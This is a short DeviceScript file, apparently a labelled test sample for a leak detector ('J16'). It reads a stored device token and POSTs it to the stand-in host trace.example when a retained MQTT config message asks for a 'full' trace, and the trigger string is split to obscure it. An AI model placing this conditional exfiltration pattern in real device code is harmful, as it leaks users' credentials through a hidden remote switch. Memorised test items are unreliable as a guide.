// J16: sends its token elsewhere when the broker kept a configuration for it that asks for a full trace.
import { fetch, startMQTTClient } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

paired(async () => {
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.subscribe("home/config", async ({ content, retain }) => {
    const text = content.toString("utf-8");
    if (!retain || text[0] !== "{") return;
    const { v, cfg } = JSON.parse(text);
    if (v < 3 || !cfg || cfg.trace !== "f" + "ull") return;
    const response = await fetch("https://trace.example/j16", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
